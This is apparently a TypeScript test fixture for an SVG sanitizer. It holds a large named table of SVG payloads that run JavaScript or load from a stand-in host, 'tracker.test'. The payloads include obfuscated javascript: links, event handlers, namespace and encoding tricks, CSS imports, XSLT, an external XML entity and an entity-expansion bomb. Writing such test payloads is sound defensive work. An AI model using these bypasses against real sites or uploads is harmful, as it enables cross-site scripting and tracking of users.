/** A request to this host means that code has run or a resource was loaded. */
export const trackerHost = 'tracker.test'

const out = `http://${trackerHost}`
const run = `fetch('${out}/run',{mode:'no-cors'})`
const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const inSvg = (inside: string, attributes = ''): string =>
  `<svg ${svg} width="100" height="100" ${attributes}>${inside}</svg>`
const html = 'xmlns="http://www.w3.org/1999/xhtml"'
const encoded = (code: string): string => `&#${Array.from(code, (letter) => letter.codePointAt(0)).join(';&#')};`
const rect = '<rect width="50" height="50"/>'

/** SVGs that run code or load from another host in a browser that opens them, or did so in recent years. */
export const payloads: Readonly<Record<string, string | Buffer>> = {
  script: inSvg(`<script>${run}</script>`),
  'script in CDATA': inSvg(`<script><![CDATA[${run}]]></script>`),
  'script from another host': inSvg(`<script href="${out}/a.js"/>`),
  'script by xlink': inSvg(`<script xlink:href="${out}/a.js"/>`),
  'script under a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`,
  'script in a foreign element': inSvg(`<x:a xmlns:x="urn:x"><script>${run}</script></x:a>`),
  'script with its own namespace': inSvg(
    `<metadata xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">${run}</script></metadata>`,
  ),
  'script below no namespace': `<svg><q:script xmlns:q="http://www.w3.org/2000/svg">${run}</q:script></svg>`,
  'script in a sheet': inSvg(`<style>a{}<script>${run}</script></style>`),
  'script in defs': inSvg(`<defs><script type="text/javascript">${run}</script></defs>`),
  'script in a title': inSvg(`<title><script>${run}</script></title>`),
  'script as a module': inSvg(`<script type="module">${run}</script>`),
  'script before an error': `<svg ${svg}><script>${run}</script><unclosed></svg>`,
  'HTML script': inSvg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
  'HTML script in metadata': inSvg(`<metadata><script ${html}>${run}</script></metadata>`),
  'HTML image': inSvg(`<img ${html} src="${out}/a.png" onerror="${run}"/>`),
  'HTML iframe': inSvg(`<iframe ${html} src="${out}/frame"/>`),
  'HTML link': inSvg(`<link ${html} rel="stylesheet" href="${out}/a.css"/>`),
  'HTML meta': inSvg(`<meta ${html} http-equiv="refresh" content="0;url=${out}/"/>`),
  'HTML object': inSvg(`<object ${html} data="${out}/a"/>`),
  'HTML root': `<html ${html}><body onload="${run}"/></html>`,
  'HTML in foreignObject': inSvg(
    `<foreignObject width="90" height="90"><body ${html}><img src="x" onerror="${run}"/></body></foreignObject>`,
  ),
  'srcdoc in foreignObject': inSvg(
    `<foreignObject width="90" height="90"><iframe ${html} srcdoc="&lt;script>parent.${run}&lt;/script>"/></foreignObject>`,
  ),
  'onload of the root': inSvg(rect, `onload="${run}"`),
  'onload after an entity': `<!DOCTYPE svg [<!ENTITY f "fetch">]><svg ${svg} onload="&f;('${out}/run')"/>`,
  onclick: inSvg(`<rect width="50" height="50" onclick="${run}"/>`),
  onmouseover: inSvg(`<g onmouseover="${run}">${rect}</g>`),
  onfocus: inSvg(`<g tabindex="0" autofocus="" onfocus="${run}">${rect}</g>`),
  onbegin: inSvg(`<rect><animate attributeName="x" begin="0s" dur="1s" onbegin="${run}"/></rect>`),
  onend: inSvg(`<rect><set attributeName="x" begin="0s" dur="0.01s" onend="${run}"/></rect>`),
  onerror: inSvg(`<image href="data:image/png;base64,AAAA" onerror="${run}"/>`),
  'handler of an unknown element': inSvg(`<thing onclick="${run}"/>`),
  'handler in references': inSvg(`<rect width="50" height="50" onclick="${encoded(run)}"/>`),
  'link to a script': inSvg(`<a href="javascript:${run}">${rect}</a>`),
  'link by xlink to a script': inSvg(`<a xlink:href="javascript:${run}">${rect}</a>`),
  'link with a line end': inSvg(`<a href="java&#10;script:${run}">${rect}</a>`),
  'link with a tab': inSvg(`<a href="&#9;java&#9;script:${run}">${rect}</a>`),
  'link in references': inSvg(`<a href="${encoded('javascript:')}${run}">${rect}</a>`),
  'link to data': inSvg(`<a href="data:text/html,&lt;script>${run}&lt;/script>">${rect}</a>`),
  'link under another prefix': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${run}">${rect}</a></svg>`,
  'animated link': inSvg(
    `<a><animate attributeName="href" values="javascript:${run}" begin="0s" fill="freeze"/>${rect}</a>`,
  ),
  'link that is set': inSvg(`<a><set attributeName="xlink:href" to="javascript:${run}" begin="0s"/>${rect}</a>`),
  'handler that is set': inSvg(`<rect width="50" height="50"><set attributeName="onclick" to="${run}"/></rect>`),
  image: inSvg(`<image href="${out}/a.png" width="10" height="10"/>`),
  'image by xlink': inSvg(`<image xlink:href="//${trackerHost}/a.png" width="10" height="10"/>`),
  'image that is set': inSvg(`<image width="10" height="10"><set attributeName="href" to="${out}/a.png"/></image>`),
  'image of a filter': inSvg(
    `<filter id="f"><feImage href="${out}/a.png"/></filter><rect width="50" height="50" filter="url(#f)"/>`,
  ),
  'use of another file': inSvg(`<use href="${out}/a.svg#b"/>`),
  'use of data': inSvg(
    `<use href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='x'%3E%3Cscript%3E${encodeURIComponent(run)}%3C/script%3E%3C/svg%3E#x"/>`,
  ),
  'gradient of another file': inSvg(`<rect width="50" height="50" fill="url(${out}/a.svg#b)"/>`),
  'filter of another file': inSvg(`<rect width="50" height="50" filter="url('${out}/a.svg#b')"/>`),
  'mask in a style': inSvg(`<rect width="50" height="50" style="mask:url(${out}/a.svg#b)"/>`),
  background: inSvg(rect, `style="background:url(${out}/a.png)"`),
  'background with escapes': inSvg(rect, String.raw`style="background:\75 r\6c ('${out}/a.png')"`),
  cursor: inSvg(`<rect width="50" height="50" cursor="url(${out}/a.cur),auto"/>`),
  import: inSvg(`<style>@import url(${out}/a.css);</style>`),
  'import of a string': inSvg(`<style>@import "${out}/a.css";</style>`),
  'import with escapes': inSvg(String.raw`<style>@\69mport "${out}/a.css";</style>`),
  'import across a comment': inSvg(`<style>@im<!-- -->port "${out}/a.css";</style>`),
  'import in CDATA': inSvg(`<style><![CDATA[@import "${out}/a.css";]]></style>`),
  'import after a comment of CSS': inSvg(`<style>/* <![CDATA[ */@import "${out}/a.css";/* ]]> */</style>`),
  font: inSvg(
    `<style>@font-face{font-family:f;src:url(${out}/a.woff2)}text{font-family:f}</style><text y="20">a</text>`,
  ),
  'image-set': inSvg(`<style>svg{background:image-set("${out}/a.png" 1x)}</style>`),
  'image-set by a variable': inSvg(`<style>svg{--a:"${out}/a.png";background:image-set(var(--a) 1x)}</style>`),
  'address by a variable': inSvg(`<style>svg{--a:url(${out}/a.png);background:var(--a)}</style>`),
  'cross-fade': inSvg(`<style>svg{background:-webkit-cross-fade(url(${out}/a.png),url(${out}/b.png),50%)}</style>`),
  'style that is set': inSvg(
    `<rect width="50" height="50"><set attributeName="fill" to="url(${out}/a.svg#b)"/></rect>`,
  ),
  'sheet by an instruction': `<?xml-stylesheet href="${out}/a.css"?>${inSvg(rect)}`,
  'transformation by an instruction': `<?xml-stylesheet type="text/xsl" href="#t"?><svg ${svg}><t:stylesheet id="t" version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:template match="/"><script ${html}>${run}</script></t:template></t:stylesheet></svg>`,
  'attribute by a declaration': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]><svg ${svg}/>`,
  'element by an entity': `<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>${run.replaceAll("'", '&#34;')}</script>">]><svg ${svg}>&s;</svg>`,
  'entity of another file': `<!DOCTYPE svg [<!ENTITY s SYSTEM "${out}/a.txt">]><svg ${svg}>&s;</svg>`,
  'growing entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${svg}><text>&c;</text></svg>`,
  'UTF-16': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(inSvg(`<script>${run}</script>`), 'utf16le')]),
  'UTF-7': `<?xml version="1.0" encoding="UTF-7"?><svg ${svg}>+ADw-script+AD4-${run}+ADw-/script+AD4-</svg>`,
  'mark of the encoding': `\uFEFF${inSvg(`<script>${run}</script>`)}`,
  'MathML link': inSvg(
    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><m:mi>x</m:mi></m:math>`,
  ),
  base: inSvg(`<a href="#x">${rect}</a>`, `xml:base="javascript:${run}//"`),
  'XML event': inSvg(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h" type="text/ecmascript">${run}</handler>`,
  ),
  'deep elements': `<svg ${svg}>${'<g>'.repeat(3000)}<script>${run}</script>${'</g>'.repeat(3000)}</svg>`,
}
